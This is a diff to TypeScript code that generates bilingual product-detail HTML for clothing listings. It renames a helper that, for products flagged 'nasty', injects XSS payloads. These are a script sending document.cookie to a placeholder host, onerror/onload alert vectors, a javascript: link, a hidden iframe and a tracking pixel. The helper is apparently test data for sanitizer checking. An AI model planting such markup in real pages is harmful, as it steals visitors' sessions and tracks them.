@@ -17,7 +17,7 @@ export function detailsHtml(product: Product, language: keyof Text, pictures: st
 <p>${say('实物拍摄，请以收到的商品为准。48小时内发货。', 'Photographed from the goods themselves. Sent within 48 hours.')}</p>
 <table border="1" cellpadding="4"><tbody><tr><td>${say('品牌', 'Brand')}</td><td>${product.brand[language]}</td></tr>${rows}<tr><td>${say('发货地', 'Ships from')}</td><td>${product.seller.location[language]}</td></tr></tbody></table>
 ${chart}${pictures.map((url) => `<p><img src="${url}" style="max-width:750px" align="absmiddle"></p>`).join('\n')}
-<p>${say('洗涤：冷水手洗，不可漂白，平铺晾干。', 'Care: wash cold by hand, do not bleach, dry flat.')}</p>${product.nasty ? nastiness(product) : ''}`
+<p>${say('洗涤：冷水手洗，不可漂白，平铺晾干。', 'Care: wash cold by hand, do not bleach, dry flat.')}</p>${product.nasty ? maliciousHtml(product) : ''}`
 }
 
 /** Measurements of a garment: of the smallest size, and the increment per size, in centimetres. */
@@ -41,7 +41,7 @@ function sizeChart(product: Product, language: keyof Text): string {
   return `<table><thead><tr>${head.map((cell) => `<th>${cell}</th>`).join('')}</tr></thead><tbody>${rows.join('')}</tbody></table>`
 }
 
-function nastiness(product: Product): string {
+function maliciousHtml(product: Product): string {
   return `<script>document.location='http://tracker.invalid/?c='+document.cookie</script>
 <img src="x" onerror="alert(document.domain)"><svg onload="alert(1)"><a xlink:href="javascript:alert(2)"><text>${yuan(product.priceFen)}</text></a></svg>
 <iframe src="http://tracker.invalid/frame" width="1" height="1"></iframe><img src="http://tracker.invalid/pixel.gif">
